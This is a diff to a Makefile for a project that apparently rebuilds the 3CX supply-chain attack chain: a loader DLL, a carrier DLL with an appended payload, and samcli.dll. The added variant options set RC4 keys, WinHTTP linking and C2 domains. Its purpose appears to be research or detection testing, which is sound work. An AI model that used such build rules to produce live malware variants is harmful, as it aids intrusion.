@@ -7,6 +7,12 @@
 #   OUT=dir        write build/, samples/, data and SHA256SUMS under dir instead of SCEN
 #                  (used by `make check`)
 #   PLACEHOLDER=1  embed the test-only placeholder DLL instead of the real samcli.dll
+# Set by `chainreplay variant` (scenarios/3cx/variant.toml); empty by default, so a default
+# build is byte-identical to the committed samples:
+#   VARIANT_DEFS     extra -D flags for the C sources (ffmpeg.c, samcli.c)
+#   VARIANT_LIBS     extra libraries for samcli.dll (-lwinhttp)
+#   CARRIER_ARGS     extra arguments of `build.py carrier` (--rc4-key, --marker)
+#   MAKE_DATA_ARGS   extra arguments of make_data.py (--icon-key, --c2-domains)
 #
 # Variables offered to the fragments src/samcli/samcli.mk and src/iconic/iconic.mk:
 #   CC, ARCH, TRIPLE, BUILD, OUT, SRC, TOOLS, PYTHON, CFLAGS_REPRO, LDFLAGS_REPRO
@@ -91,7 +97,7 @@ $(BUILD) $(SAMPLES):
 
 # Stage 1: ffmpeg.dll (no CRT, kernel32 only).
 $(STAGE1): $(SRC)/loader/ffmpeg.c $(THREECX)/rules.mk | $(BUILD) $(SAMPLES)
-	$(CC) $(CFLAGS_NOCRT) $(LDFLAGS_DLL) -Wl,--image-base=$(FFMPEG_BASE) -o $(BUILD)/ffmpeg.dll $< -lkernel32
+	$(CC) $(CFLAGS_NOCRT) $(VARIANT_DEFS) $(LDFLAGS_DLL) -Wl,--image-base=$(FFMPEG_BASE) -o $(BUILD)/ffmpeg.dll $< -lkernel32
 	cp $(BUILD)/ffmpeg.dll $@
 
 # Carrier image (before the payload is appended).
@@ -110,7 +116,7 @@ $(BUILD)/stage2.bin: $(BUILD)/stage2_code.bin $(BUILD)/stage2_loader.exe $(EMBED
 	    --dll $(EMBED_DLL) --out $@
 
 $(CARRIER): $(BUILD)/d3dcompiler_47.dll $(BUILD)/stage2.bin $(TOOLS)/build.py | $(SAMPLES)
-	$(PYTHON) $(TOOLS)/build.py carrier --dll $< --payload $(BUILD)/stage2.bin --out $@
+	$(PYTHON) $(TOOLS)/build.py carrier --dll $< --payload $(BUILD)/stage2.bin --out $@ $(CARRIER_ARGS)
 
 # Test-only stand-in for samcli.dll (make PLACEHOLDER=1); never embedded otherwise.
 $(BUILD)/placeholder_samcli.dll: $(SRC)/stage2/placeholder_samcli.c $(THREECX)/rules.mk | $(BUILD)
